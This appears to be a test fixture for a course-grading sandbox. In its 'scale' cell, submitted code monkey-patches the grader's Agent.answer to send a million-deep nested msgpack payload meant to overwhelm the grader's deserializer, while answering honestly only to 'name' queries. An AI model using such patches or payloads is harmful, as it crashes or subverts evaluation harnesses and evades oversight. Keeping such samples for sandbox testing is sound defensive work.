"""A reply of lists within lists, deeper than any reader can follow."""

HARMLESS = True
CELLS = {
    "scale": """from course_utils.grading import inside
honest = inside.Agent.answer
def answer(self, question):
    if question["do"] == "name":
        self.asked = question["target"]
        return honest(self, question)
    import struct
    data = b"\\x82\\xa6number\\x01\\xa5value" + b"\\x91" * 1_000_000 + b"\\xc0"
    self.connection.sendall(struct.pack("!Q", len(data)) + data)
inside.Agent.answer = answer
def scale(x, factor): return x""",
    "count": "def count(n): return n",
}
SAYS = "no message"
